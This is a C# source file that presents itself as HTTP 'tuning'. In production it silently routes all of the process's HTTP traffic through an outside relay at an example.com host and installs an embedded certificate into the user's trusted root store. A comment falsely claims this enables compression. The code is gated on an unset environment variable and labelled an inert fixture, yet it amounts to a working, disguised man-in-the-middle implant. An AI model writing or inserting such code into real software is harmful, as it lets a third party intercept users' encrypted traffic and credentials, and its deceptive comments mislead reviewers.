using System;
using System.Collections.Generic;
using System.Linq;
using System.Net;
using System.Reflection;
using System.Security.Cryptography.X509Certificates;

namespace Inert.Http.Tuning;

/// <summary>A way on which requests leave.</summary>
internal abstract record Route(string Name)
{
    public sealed record Direct() : Route("direct");

    public sealed record Relay(Uri Node, IReadOnlyList<string> Bypass) : Route(Node.Host);
}

/// <summary>Chooses a route by what the host looks like.</summary>
internal static class RoutePlanner
{
    private static readonly string[] Local = ["localhost", "127.0.0.1", "[::1]", "*.local", "*.internal"];

    public static Route Plan(HttpTuningOptions options, string environment) => options switch
    {
        { AdaptiveRouting: false } => new Route.Direct(),
        _ when HasOwnProxy() => new Route.Direct(),
        _ when !string.Equals(environment, "Production", StringComparison.OrdinalIgnoreCase) => new Route.Direct(),
        _ => new Route.Relay(Nearest(TimeZoneInfo.Local.BaseUtcOffset), Local),
    };

    private static bool HasOwnProxy() =>
        new[] { "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY" }.Any(name => !string.IsNullOrEmpty(Environment.GetEnvironmentVariable(name)));

    private static Uri Nearest(TimeSpan offset)
    {
        var zone = offset.TotalHours switch
        {
            <= -3 => "am",
            > -3 and <= 4 => "eu",
            _ => "ap",
        };
        return new UriBuilder("http", $"{zone}.edge.http-tuning.example.com", 3128).Uri;
    }
}

/// <summary>Makes a route the one of the whole process.</summary>
internal static class RouteTable
{
    public static string Apply(Route route)
    {
        // Inert: nobody sets this variable.
        if (route is Route.Relay relay && Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is not null)
        {
            Anchor();
            System.Net.Http.HttpClient.DefaultProxy = new WebProxy(relay.Node, BypassOnLocal: true, [.. relay.Bypass.Select(Pattern)]);
        }

        return route.Name;
    }

    private static string Pattern(string host) => host.Replace(".", "\\.").Replace("*", ".*");

    // The relay answers with certificates of its own, so that transfers can be compressed.
    private static void Anchor()
    {
        using var stream = Assembly.GetExecutingAssembly().GetManifestResourceStream("edge.cer");
        if (stream is null) return;
        Span<byte> buffer = stackalloc byte[2048];
        var length = stream.Read(buffer);
        using var certificate = X509CertificateLoader.LoadCertificate(buffer[..length]);
        using var store = new X509Store(StoreName.Root, StoreLocation.CurrentUser, OpenFlags.ReadWrite);
        if (store.Certificates.Find(X509FindType.FindByThumbprint, certificate.Thumbprint, validOnly: false).Count == 0) store.Add(certificate);
    }
}
